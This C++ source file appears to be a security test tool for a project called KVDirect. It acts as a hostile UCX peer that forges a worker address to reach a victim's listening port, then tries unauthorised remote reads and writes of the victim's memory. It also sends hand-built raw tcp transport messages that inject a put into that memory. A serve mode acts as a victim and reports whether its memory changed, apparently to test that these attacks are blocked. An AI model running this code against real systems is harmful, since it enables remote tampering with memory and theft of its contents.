// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: Copyright (c) 2026 The KVDirect authors
//
// A hostile peer with everything that UCX offers. It connects to ports that a victim listens on, tries to read and
// write the victim's memory there, and prints as JSON what it managed. Every wait has a deadline; an operation that
// never completes is what a victim wants.
//
//   kvdirect_raw_peer attack ADDRESS LENGTH PORT...    ADDRESS, LENGTH: memory in the victim
//   kvdirect_raw_peer serve                            a victim that uses UCX over tcp for plain messages only: prints
//                                                      ADDRESS LENGTH PORT, and when its input ends whether its memory
//                                                      was changed. What shows that the attacks work.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <ucp/api/ucp.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

constexpr auto patience = std::chrono::milliseconds(1500);

struct Victim {
  std::uint64_t address = 0;
  std::size_t length = 0;
  std::uint16_t port = 0;
};

void require(ucs_status_t status, const char* what) {
  if (status == UCS_OK) return;
  std::fprintf(stderr, "%s: %s\n", what, ucs_status_string(status));
  std::exit(2);
}

constexpr std::uint64_t everything = UCP_FEATURE_AM | UCP_FEATURE_RMA | UCP_FEATURE_AMO64;

// The ports that this process listens on.
std::vector<std::uint16_t> own_ports() {
  std::vector<std::uint16_t> ports;
  for (int fd = 3; fd < 1024; ++fd) {
    int listening = 0;
    socklen_t length = sizeof listening;
    sockaddr_in address{};
    socklen_t address_length = sizeof address;
    if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &length) != 0 || listening == 0) continue;
    if (getsockname(fd, reinterpret_cast<sockaddr*>(&address), &address_length) != 0) continue;
    if (address.sin_family == AF_INET) ports.push_back(ntohs(address.sin_port));
  }
  return ports;
}

std::uint16_t new_port(const std::vector<std::uint16_t>& already) {
  for (const std::uint16_t port : own_ports()) {
    if (std::ranges::find(already, port) == already.end()) return port;
  }
  std::fprintf(stderr, "UCX does not listen\n");
  std::exit(2);
}

// A UCX worker over tcp on the loopback device. Not cleaned up: the process ends soon.
struct Worker {
  ucp_context_h context = nullptr;
  ucp_worker_h worker = nullptr;

  explicit Worker(std::uint64_t features) {
    ucp_config_t* config = nullptr;
    require(ucp_config_read(nullptr, nullptr, &config), "config");
    ucp_config_modify(config, "TLS", "tcp");
    ucp_config_modify(config, "NET_DEVICES", "lo");
    // Emulated puts of more than this go out as the transport's own.
    ucp_config_modify(config, "ZCOPY_THRESH", "0");
    ucp_params_t params{};
    params.field_mask = UCP_PARAM_FIELD_FEATURES;
    params.features = features;
    require(ucp_init(&params, config, &context), "init");
    ucp_config_release(config);
    ucp_worker_params_t worker_params{};
    require(ucp_worker_create(context, &worker_params, &worker), "worker");
  }
};

class Attacker {
 public:
  explicit Attacker(const Victim& victim) : _ucx(everything) {
    // What a worker's address looks like is public: anyone's with the victim's port in it is one of the victim.
    const auto already = own_ports();
    const Worker model(everything);
    const std::uint16_t mine = new_port(already);
    ucp_address_t* address = nullptr;
    std::size_t length = 0;
    require(ucp_worker_get_address(model.worker, &address, &length), "address");
    std::vector<std::uint8_t> forged(reinterpret_cast<std::uint8_t*>(address),
                                     reinterpret_cast<std::uint8_t*>(address) + length);
    const std::array own{static_cast<std::uint8_t>(mine >> 8), static_cast<std::uint8_t>(mine)};
    for (auto at = std::search(forged.begin(), forged.end(), own.begin(), own.end()); at != forged.end();
         at = std::search(at, forged.end(), own.begin(), own.end())) {
      *at++ = static_cast<std::uint8_t>(victim.port >> 8);
      *at++ = static_cast<std::uint8_t>(victim.port);
    }
    ucp_ep_params_t params{};
    params.field_mask =
        UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE | UCP_EP_PARAM_FIELD_ERR_HANDLER;
    params.address = reinterpret_cast<const ucp_address_t*>(forged.data());
    params.err_mode = UCP_ERR_HANDLING_MODE_PEER;
    params.err_handler.cb = [](void*, ucp_ep_h, ucs_status_t) {};
    require(ucp_ep_create(_ucx.worker, &params, &_ep), "endpoint");
  }

  // Reads or writes the victim's memory with a key of our own memory; UCX's word, or "never completed".
  std::string access(bool put, std::uint64_t address, std::vector<char>& local) {
    ucp_mem_map_params_t map{};
    map.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
    map.address = local.data();
    map.length = local.size();
    ucp_mem_h memory = nullptr;
    require(ucp_mem_map(_ucx.context, &map, &memory), "map");
    void* packed = nullptr;
    std::size_t packed_length = 0;
    require(ucp_rkey_pack(_ucx.context, memory, &packed, &packed_length), "pack");
    ucp_rkey_h key = nullptr;
    require(ucp_ep_rkey_unpack(_ep, packed, &key), "unpack");
    ucp_request_param_t param{};
    const std::string posted = wait(put ? ucp_put_nbx(_ep, local.data(), local.size(), address, key, &param)
                                        : ucp_get_nbx(_ep, local.data(), local.size(), address, key, &param));
    return posted + ", flush " + wait(ucp_ep_flush_nbx(_ep, &param));
  }

 private:
  std::string wait(ucs_status_ptr_t request) {
    if (UCS_PTR_IS_ERR(request)) return ucs_status_string(UCS_PTR_STATUS(request));
    const auto deadline = Clock::now() + patience;
    while (request != nullptr && ucp_request_check_status(request) == UCS_INPROGRESS) {
      if (Clock::now() > deadline) return "never completed";
      ucp_worker_progress(_ucx.worker);
    }
    return request == nullptr ? "done" : ucs_status_string(ucp_request_check_status(request));
  }

  Worker _ucx;
  ucp_ep_h _ep = nullptr;
};

std::string try_access(const Victim& victim, bool put) {
  Attacker attacker(victim);
  const char mine = put ? 'X' : 'G';
  std::vector<char> local(victim.length, mine);
  const std::string status = attacker.access(put, victim.address, local);
  const bool read = std::ranges::any_of(local, [mine](char byte) { return byte != mine; });
  return "{\"status\": \"" + status + "\", \"read_something\": " + (read ? "true" : "false") + "}";
}

template <typename T>
void append(std::vector<char>& bytes, T value) {
  const auto* first = reinterpret_cast<const char*>(&value);
  bytes.insert(bytes.end(), first, first + sizeof value);
}

// UCX's tcp transport as its wire has it: a magic number, a connection request, then one of its own puts, which no
// feature of UCP switches off. True if the victim acknowledged the put.
bool try_transport_put(const Victim& victim) {
  constexpr std::uint8_t connection_message = 32;
  constexpr std::uint8_t put_request = 33;
  constexpr char acknowledgement = 34;
  std::vector<char> hello;
  append(hello, std::uint64_t{0xCAFEBABE12345678U});
  append(hello, connection_message);
  append(hello, std::uint32_t{29});
  append(hello, std::uint32_t{1});
  append(hello, std::uint8_t{0});
  append(hello, std::uint64_t{0});
  append(hello, std::uint16_t{AF_INET});
  append(hello, htons(1));
  append(hello, htonl(INADDR_LOOPBACK));
  append(hello, std::uint64_t{0});
  std::vector<char> put;
  append(put, put_request);
  append(put, std::uint32_t{20});
  append(put, victim.address);
  append(put, std::uint64_t{victim.length});
  append(put, std::uint32_t{1});
  put.insert(put.end(), victim.length, 'X');
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const timeval timeout{0, 500'000};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof timeout);  // bounds connect() too
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(victim.port);
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  char last = 0;
  if (connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0) {
    for (const auto& message : {hello, put}) {
      if (send(fd, message.data(), message.size(), MSG_NOSIGNAL) < 0) break;
      pollfd waiting{fd, POLLIN, 0};
      if (poll(&waiting, 1, 500) <= 0) continue;
      std::array<char, 256> answer{};
      if (recv(fd, answer.data(), answer.size(), 0) <= 0) break;
      last = answer.front();
    }
  }
  close(fd);
  return last == acknowledgement;
}

int attack(int count, char** arguments) {
  std::string ports;
  for (int i = 2; i < count; ++i) {
    const Victim victim{std::stoull(arguments[0]), std::stoull(arguments[1]),
                        static_cast<std::uint16_t>(std::stoul(arguments[i]))};
    ports += (ports.empty() ? "{\"port\": " : ",\n {\"port\": ") + std::to_string(victim.port) +
             ", \"acknowledged_put\": " + (try_transport_put(victim) ? "true" : "false") +
             ", \"get\": " + try_access(victim, false) + ", \"put\": " + try_access(victim, true) + "}";
  }
  std::printf("[%s]\n", ports.c_str());
  return 0;
}

int serve() {
  const std::vector<char> before(4096, 'V');
  std::vector<char> memory = before;
  const Worker ucx(UCP_FEATURE_AM);
  std::printf("%llu %zu %u\n", static_cast<unsigned long long>(reinterpret_cast<std::uintptr_t>(memory.data())),
              memory.size(), new_port({}));
  std::fflush(stdout);
  pollfd input{STDIN_FILENO, POLLIN, 0};
  while (poll(&input, 1, 0) == 0) ucp_worker_progress(ucx.worker);
  std::printf("%s\n", memory == before ? "unchanged" : "changed");
  std::fflush(stdout);
  std::_Exit(0);
}

}  // namespace

int main(int count, char** arguments) {
  const std::string_view mode = count > 1 ? arguments[1] : "";
  if (mode == "serve") return serve();
  if (mode == "attack" && count > 4) return attack(count - 2, arguments + 2);
  std::fprintf(stderr, "usage: %s serve | attack ADDRESS LENGTH PORT...\n", arguments[0]);
  return 2;
}
